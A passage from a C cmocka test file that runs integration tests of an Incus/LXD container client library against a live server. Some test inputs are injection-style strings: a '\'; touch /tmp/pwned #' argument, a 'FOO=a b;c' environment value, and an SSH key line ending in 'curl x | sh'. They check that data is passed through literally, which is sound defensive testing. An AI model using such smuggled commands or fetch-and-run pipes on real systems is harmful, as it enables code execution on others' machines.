	    true);
	(void)incus_instance_delete(real.c, real.name);
	incus_client_free(real.c);
	real.c = NULL;
	return 0;
}

#define REAL_OR_SKIP() \
	do { \
		if (!real.c) \
			skip(); \
	} while (0)

static void test_real_server_info(void **state)
{
	struct incus_server_info info;
	const char *prefix;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_client_server_info(real.c, &info), 0);
	assert_true(info.kind == INCUS_SERVER_LXD ||
	    info.kind == INCUS_SERVER_INCUS);
	assert_non_null(info.server_version);
	assert_non_null(info.kernel_version);
	assert_non_null(info.server_name);
	assert_int_equal(incus_client_header_prefix(real.c, &prefix), 0);
	assert_string_equal(prefix, info.kind == INCUS_SERVER_INCUS ?
	    "X-Incus-" : "X-LXD-");
	incus_client_server_info_free(&info);
}

static void test_real_missing(void **state)
{
	struct incus_instance in;
	struct incus_file file;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_get(real.c, "incusdev-no-such", &in),
	    -ENOENT);
	assert_non_null(strcasestr(incus_client_error_message(real.c),
	    "not found"));
	assert_int_equal(incus_instance_delete(real.c, "incusdev-no-such"),
	    -ENOENT);
	assert_int_equal(incus_instance_set_state(real.c, "incusdev-no-such",
	    INCUS_STATE_START, -1, false), -ENOENT);
	assert_int_equal(incus_file_get(real.c, "incusdev-no-such", "/etc/hosts",
	    0, &file), -ENOENT);
}

static void test_real_create(void **state)
{
	static const struct incus_key_value config[] = {
		{ "user.containarium.owner", "incusdev" },
		{ "user.containarium.label.team", "infra" },
		{ "limits.cpu", "1" },
	};
	struct incus_instance_spec spec = {
		.name = real.name,
		.image_alias = real.image,
		.config = config,
		.config_count = 3,
	};

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_create(real.c, &spec), 0);
	assert_int_equal(incus_instance_create(real.c, &spec), -EEXIST);
	assert_non_null(strstr(incus_client_error_message(real.c),
	    "already exists"));
	spec.name = "incusdev-bad-image";
	spec.image_alias = "incusdev-no-such-image";
	assert_int_equal(incus_instance_create(real.c, &spec), -ENOENT);
	/* (LXD 5.0 resolves the image before it checks the name) */
	spec.name = "incusdev bad name";
	spec.image_alias = real.image;
	assert_int_equal(incus_instance_create(real.c, &spec), -EINVAL);
}

static void test_real_stopped(void **state)
{
	struct incus_instance in;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_get(real.c, real.name, &in), 0);
	assert_string_equal(in.name, real.name);
	assert_int_equal(in.status_code, 102);
	assert_true(in.has_state);
	assert_int_equal(in.state.pid, 0);
	assert_true(in.created_at > 1700000000);
	assert_int_equal(in.last_used_at, 0);
	assert_string_equal(incus_instance_config_get(&in,
	    "user.containarium.label.team"), "infra");
	assert_string_equal(incus_instance_config_get(&in, "limits.cpu"), "1");
	assert_non_null(in.root_pool);
	incus_instance_free(&in);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_STOP, 5, false), -EBUSY);
}

/* Polls get until eth0 has an IPv4 address (DHCP) or 15 s pass. */
static void real_get_with_address(struct incus_instance *ret)
{
	for (int i = 0; i < 75; i++) {
		assert_int_equal(incus_instance_get(real.c, real.name, ret), 0);
		if (ret->state.ipv4_address)
			return;
		incus_instance_free(ret);
		usleep(200 * 1000);
	}
	fail_msg("no IPv4 address on eth0");
}

static void test_real_start(void **state)
{
	struct incus_instance in;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_START, -1, false), 0);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_START, -1, false), -EBUSY);
	assert_int_equal(incus_instance_delete(real.c, real.name), -EBUSY);
	real_get_with_address(&in);
	assert_int_equal(in.status_code, 103);
	assert_string_equal(in.status, "Running");
	assert_true(in.state.pid > 1);
	assert_true(in.state.processes > 0);
	assert_true(in.state.memory_usage > 0);
	assert_true(in.state.cpu_usage_ns > 0);
	assert_non_null(in.state.hwaddr);
	assert_non_null(in.state.host_name);
	assert_non_null(in.network_parent);
	assert_true(in.last_used_at > 1700000000);
	incus_instance_free(&in);
}

static void test_real_list(void **state)
{
	struct incus_instance_list list;
	bool found = false;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_list(real.c, &list), 0);
	for (size_t i = 0; i < list.count; i++) {
		if (strcmp(list.items[i].name, real.name) != 0)
			continue;
		found = true;
		assert_int_equal(list.items[i].status_code, 103);
		assert_true(list.items[i].has_state);
		assert_true(list.items[i].state.pid > 1);
	}
	assert_true(found);
	incus_instance_list_free(&list);
}

/* Runs argv in the test container; returns the result. */
static void real_exec(const char *const *argv, struct incus_exec_result *ret)
{
	const struct incus_exec_spec spec = { .argv = argv };

	assert_int_equal(incus_exec(real.c, real.name, &spec, ret), 0);
}

static void test_real_exec(void **state)
{
	static const char *const echo[] = { "echo", "hi", NULL };
	static const char *const exit3[] = { "sh", "-c",
		"echo out; echo err >&2; exit 3", NULL };
	static const char *const missing[] = { "/no/such/command", NULL };
	static const char *const literal[] = { "echo", "'; touch /tmp/pwned #", NULL };
	static const char *const env[] = { "sh", "-c", "echo \"$FOO\"", NULL };
	static const char *const foo[] = { "FOO=a b;c", NULL };
	const struct incus_exec_spec env_spec = { .argv = env, .environment = foo };
	struct incus_exec_result result;

	(void)state;
	REAL_OR_SKIP();
	real_exec(echo, &result);
	assert_int_equal(result.exit_status, 0);
	assert_string_equal(result.stdout_data, "hi\n");
	assert_int_equal(result.stderr_size, 0);
	incus_exec_result_free(&result);

	real_exec(exit3, &result);
	assert_int_equal(result.exit_status, 3);
	assert_string_equal(result.stdout_data, "out\n");
	assert_string_equal(result.stderr_data, "err\n");
	incus_exec_result_free(&result);

	real_exec(missing, &result);
	assert_int_equal(result.exit_status, 127);
	incus_exec_result_free(&result);

	real_exec(literal, &result);
	assert_string_equal(result.stdout_data, "'; touch /tmp/pwned #\n");
	incus_exec_result_free(&result);

	assert_int_equal(incus_exec(real.c, real.name, &env_spec, &result), 0);
	assert_string_equal(result.stdout_data, "a b;c\n");
	incus_exec_result_free(&result);
}

static void test_real_exec_output_bounded(void **state)
{
	static const char *const argv[] = { "sh", "-c",
		"i=0; while [ $i -lt 3000 ]; do echo 0123456789; i=$((i+1)); done",
		NULL };
	const struct incus_exec_spec spec = { .argv = argv, .output_max = 1000 };
	struct incus_exec_result result;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_exec(real.c, real.name, &spec, &result), 0);
	assert_int_equal(result.exit_status, 0);
	assert_int_equal(result.stdout_size, 1000);
	assert_true(result.stdout_truncated);
	incus_exec_result_free(&result);
}

static void test_real_files(void **state)
{
	static const char key[] = "ssh-ed25519 AAAAC3Nz test'; curl x | sh\n";
	const struct incus_file_spec dir = { .path = "/root/.incusdev",
		.type = INCUS_FILE_DIRECTORY, .uid = 1000, .gid = 1000,
		.mode = 0700 };
	const struct incus_file_spec file = { .path = "/root/.incusdev/keys",
		.type = INCUS_FILE_REGULAR, .uid = 1000, .gid = 1001,
		.mode = 0600, .data = key, .size = sizeof(key) - 1 };
	const struct incus_file_spec orphan = { .path = "/nonexistent/dir/f",
		.type = INCUS_FILE_REGULAR, .mode = 0644 };
	struct incus_file got;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_file_push(real.c, real.name, &dir), 0);
	assert_int_equal(incus_file_push(real.c, real.name, &file), 0);
	assert_int_equal(incus_file_get(real.c, real.name, file.path, 0, &got), 0);
	assert_int_equal(got.type, INCUS_FILE_REGULAR);
	assert_int_equal(got.uid, 1000);
	assert_int_equal(got.gid, 1001);
	assert_int_equal(got.mode, 0600);
	assert_int_equal(got.size, sizeof(key) - 1);
	assert_memory_equal(got.data, key, sizeof(key) - 1);
	incus_file_free(&got);

	assert_int_equal(incus_file_get(real.c, real.name, dir.path, 0, &got), 0);
	assert_int_equal(got.type, INCUS_FILE_DIRECTORY);
	assert_int_equal(got.mode, 0700);
	assert_int_equal(got.uid, 1000);
	assert_int_equal(got.entry_count, 1);
	assert_string_equal(got.entries[0], "keys");
	incus_file_free(&got);

	assert_int_equal(incus_file_get(real.c, real.name, file.path, 10, &got),
	    -EFBIG);
	assert_int_equal(incus_file_get(real.c, real.name, "/root/nope", 0, &got),
	    -ENOENT);
	assert_int_equal(incus_file_push(real.c, real.name, &orphan), -ENOENT);
	assert_int_equal(incus_file_delete(real.c, real.name, file.path), 0);
	assert_int_equal(incus_file_get(real.c, real.name, file.path, 0, &got),
	    -ENOENT);
}

static void test_real_update_config(void **state)
{
	const struct incus_key_value set[] = {
		{ "user.containarium.label.env", "dev" },
		{ "user.containarium.label.team", NULL },
	};
	const struct incus_key_value bad[] = { { "limits.bogus", "1" } };
	struct incus_instance in;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_update_config(real.c, real.name, set, 2),
	    0);
	assert_int_equal(incus_instance_get(real.c, real.name, &in), 0);
	assert_string_equal(incus_instance_config_get(&in,
	    "user.containarium.label.env"), "dev");
	assert_null(incus_instance_config_get(&in,
	    "user.containarium.label.team"));
	incus_instance_free(&in);
	assert_int_equal(incus_instance_update_config(real.c, real.name, bad, 1),
	    -EINVAL);
	assert_non_null(strstr(incus_client_error_message(real.c),
	    "limits.bogus"));
}

static void test_real_resources(void **state)
{
	struct incus_host_resources host;
	struct incus_pool_resources pool;
	struct incus_instance in;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_resources_host(real.c, &host), 0);
	assert_true(host.cpu_total > 0);
	assert_true(host.memory_total >= host.memory_used);
	assert_int_equal(incus_instance_get(real.c, real.name, &in), 0);
	assert_int_equal(incus_resources_pool(real.c, in.root_pool, &pool), 0);
	assert_true(pool.space_total > 0);
	incus_instance_free(&in);
	assert_int_equal(incus_resources_pool(real.c, "incusdev-no-pool", &pool),
	    -ENOENT);
}

static void test_real_stop_delete(void **state)
{
	static const char *const argv[] = { "true", NULL };
	const struct incus_exec_spec spec = { .argv = argv };
	struct incus_exec_result result;
	struct incus_instance in;

	(void)state;
	REAL_OR_SKIP();
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_FREEZE, -1, false), 0);
	assert_int_equal(incus_instance_get(real.c, real.name, &in), 0);
	assert_int_equal(in.status_code, 110);
	incus_instance_free(&in);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_FREEZE, -1, false), -EBUSY);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_UNFREEZE, -1, false), 0);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_STOP, 30, false), 0);
	assert_int_equal(incus_instance_set_state(real.c, real.name,
	    INCUS_STATE_STOP, 30, false), -EBUSY);
	assert_int_equal(incus_exec(real.c, real.name, &spec, &result), -EBUSY);
	assert_int_equal(incus_instance_delete(real.c, real.name), 0);
	assert_int_equal(incus_instance_get(real.c, real.name, &in), -ENOENT);
	assert_int_equal(incus_instance_delete(real.c, real.name), -ENOENT);
}

int main(void)
{
	const struct CMUnitTest offline[] = {
		cmocka_unit_test(test_options),
		cmocka_unit_test(test_socket_missing),
		cmocka_unit_test(test_socket_not_listening),
		cmocka_unit_test(test_500_not_json),
		cmocka_unit_test(test_truncated_json),
		cmocka_unit_test(test_closed_mid_response),
		cmocka_unit_test(test_closed_without_answer),
		cmocka_unit_test(test_not_http),
		cmocka_unit_test(test_response_too_large),
		cmocka_unit_test(test_server_silent_timeout),
		cmocka_unit_test(test_connection_cloexec),
		cmocka_unit_test(test_error_statuses),
		cmocka_unit_test(test_error_message_sanitized),
		cmocka_unit_test(test_error_message_truncated),
		cmocka_unit_test(test_request_shape),
		cmocka_unit_test(test_create_body),
		cmocka_unit_test(test_create_invalid),
		cmocka_unit_test(test_operation_failure),
		cmocka_unit_test(test_operation_deadline),
		cmocka_unit_test(test_bad_operation_path),
		cmocka_unit_test(test_file_push_incus_headers),
		cmocka_unit_test(test_file_get_headers),
		cmocka_unit_test(test_exec_flow),
		cmocka_unit_test(test_exec_output_bounded),
		cmocka_unit_test(test_exec_foreign_output_path),
		cmocka_unit_test(test_exec_invalid),
	};
	const struct CMUnitTest with_incus[] = {
		cmocka_unit_test(test_real_server_info),
		cmocka_unit_test(test_real_missing),
		cmocka_unit_test(test_real_create),
		cmocka_unit_test(test_real_stopped),
		cmocka_unit_test(test_real_start),
		cmocka_unit_test(test_real_list),
		cmocka_unit_test(test_real_exec),
		cmocka_unit_test(test_real_exec_output_bounded),
		cmocka_unit_test(test_real_files),
		cmocka_unit_test(test_real_update_config),
		cmocka_unit_test(test_real_resources),
		cmocka_unit_test(test_real_stop_delete),
	};
	int failed;

	if (incus_client_global_init() < 0)
		return 1;
	failed = cmocka_run_group_tests_name("incus_client_offline", offline,
	    NULL, NULL);
	failed += cmocka_run_group_tests_name("incus_client_real", with_incus,
	    real_setup, real_teardown);
	return failed ? 1 : 0;
}
